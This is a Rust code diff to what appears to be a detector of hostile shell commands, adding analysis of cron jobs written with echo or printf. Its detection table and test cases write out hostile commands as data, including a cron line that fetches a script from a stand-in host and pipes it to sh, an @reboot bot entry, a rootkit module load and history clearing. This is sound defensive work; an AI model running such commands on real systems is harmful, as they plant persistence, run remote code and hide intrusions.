@@ -26,7 +26,7 @@
 //! | `kill` | `-9` / `-KILL` |
 //! | `history` | `history -c`, `unset HISTFILE`, `HISTFILE=/dev/null`, `HISTSIZE=0` |
 //! | `base64` | `-d` / `--decode` |
-//! | `echo printf` | output redirected to `/etc/...` or a credential or persistence path |
+//! | `echo printf` | output redirected to `/etc/...` or a credential or persistence path; a cron line (`* * * * * job`, `@reboot job`) has its job analysed |
 //! | `dd` | `of=/dev/...` |
 //! | `insmod` | a `.ko` module; `setenforce 0` |
 //! | `/dev/tcp` | `/dev/tcp/` or `/dev/udp/` anywhere (bash reverse shell) |
@@ -41,6 +41,9 @@ const MAX_DEPTH: u8 = 3;
 struct Found {
     tools: Vec<&'static str>,
     strong: bool,
+    /// An `echo`/`printf` was seen: a later segment's redirection may be its
+    /// output (`echo "* * * * * x | sh" >> /etc/crontab` splits at the pipe).
+    echo: Option<&'static str>,
 }
 
 impl Found {
@@ -155,9 +158,21 @@ fn segment(seg: &str, piped: bool, depth: u8, found: &mut Found) {
         }
     }
     let Some(tool) = known(basename(cmd)) else {
+        if let Some(echo) = found.echo {
+            let rest: Vec<&str> = words.collect();
+            if redirect_target(&rest).is_some_and(sensitive_write) {
+                found.push(echo);
+            }
+        }
         return;
     };
     let args: Vec<&str> = words.collect();
+    if let Some(echo) = found.echo
+        && !matches!(tool, "echo" | "printf")
+        && redirect_target(&args).is_some_and(sensitive_write)
+    {
+        found.push(echo);
+    }
     let flagged = match tool {
         "wget" | "curl" | "tftp" | "ftpget" | "ftp" | "tnftp" => has_target(&args),
         "chmod" => args.iter().any(|a| exec_mode(a)),
@@ -173,7 +188,7 @@ fn segment(seg: &str, piped: bool, depth: u8, found: &mut Found) {
                 }
                 false
             } else {
-                match args.first() {
+                match args.iter().find(|a| !is_redirect(a)) {
                     Some(a) => !a.starts_with('-') && a.contains(['.', '/', '$']),
                     None => piped,
                 }
@@ -223,7 +238,17 @@ fn segment(seg: &str, piped: bool, depth: u8, found: &mut Found) {
             .any(|a| matches!(*a, "HISTFILE" | "HISTORY" | "HISTSAVE")),
         "export" => args.iter().any(|a| hist_assignment(a)),
         "base64" => args.iter().any(|a| matches!(*a, "-d" | "--decode" | "-D")),
-        "echo" | "printf" => redirect_target(&args).is_some_and(sensitive_write),
+        "echo" | "printf" => {
+            found.echo = Some(tool);
+            // A crontab line being written: analyse the job it schedules.
+            if let Some(at) = cron_job_start(&args)
+                && depth < MAX_DEPTH
+            {
+                let job = args[at..].join(" ");
+                line(&job, depth + 1, found);
+            }
+            redirect_target(&args).is_some_and(sensitive_write)
+        }
         "dd" => args.iter().any(|a| a.starts_with("of=/dev/")),
         "insmod" => args.iter().any(|a| a.ends_with(".ko")),
         "setenforce" => args.first() == Some(&"0"),
@@ -356,6 +381,31 @@ fn recursive_force(args: &[&str]) -> bool {
     r && f
 }
 
+/// Index of the command in `args` when they start with a cron schedule: five
+/// time fields (`*/5 * * * *`) or a nickname such as `@reboot`.
+fn cron_job_start(args: &[&str]) -> Option<usize> {
+    let field = |a: &&str| !a.is_empty() && a.bytes().all(|b| b"0123456789*/,-".contains(&b));
+    let at = if args.first().is_some_and(|a| {
+        matches!(
+            *a,
+            "@reboot" | "@yearly" | "@annually" | "@monthly" | "@weekly" | "@daily" | "@hourly"
+        )
+    }) {
+        1
+    } else if args.len() > 5 && args[..5].iter().all(field) {
+        5
+    } else {
+        return None;
+    };
+    (at < args.len()).then_some(at)
+}
+
+/// `>file`, `>>`, `2>&1`, `<in` and similar redirection words.
+fn is_redirect(a: &str) -> bool {
+    a.trim_start_matches(|c: char| c.is_ascii_digit())
+        .starts_with(['>', '<'])
+}
+
 /// Target of a `>` / `>>` redirection (stdout only).
 fn redirect_target<'a>(args: &[&'a str]) -> Option<&'a str> {
     let mut it = args.iter();
@@ -451,6 +501,11 @@ mod tests {
             ),
             ("insmod /tmp/rk.ko", &["insmod"]),
             ("setenforce 0", &["setenforce"]),
+            ("echo '@reboot /tmp/.x/bot' | crontab -", &["crontab"]),
+            (
+                "echo \"*/10 * * * * wget -q -O- http://x.example.com/a | sh\" >> /etc/crontab",
+                &["wget", "echo", "sh"],
+            ),
         ];
         for (s, want) in cases {
             assert_eq!(flag_tools(s), *want, "{s}");
@@ -474,6 +529,8 @@ mod tests {
             "rm -r dir",
             "kill -HUP %d",
             "echo hello > /tmp/out",
+            "echo 1 2 3 4 5 6",
+            "echo * * * * * not a tool",
             "echo $PATH",
             "sh",
             "bash --version",
